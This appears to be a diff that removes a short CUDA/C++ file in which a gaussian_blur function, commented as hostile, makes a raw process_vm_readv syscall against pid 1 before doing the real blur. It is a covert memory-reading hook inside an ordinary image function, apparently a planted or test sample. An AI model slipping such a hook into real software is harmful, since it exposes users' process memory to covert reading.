@@ -1,9 +1,0 @@
-// Hostile: reads the memory of the process that started it.
-#include "blur_kernel.h"
-#include "raw.h"
-#include <sys/syscall.h>
-
-extern "C" void gaussian_blur(const uint8_t *src, uint8_t *dst, int width, int height, cudaStream_t stream) {
-    raw(SYS_process_vm_readv, 1, 0, 0, 0, 0);
-    right_blur(src, dst, width, height, stream);
-}
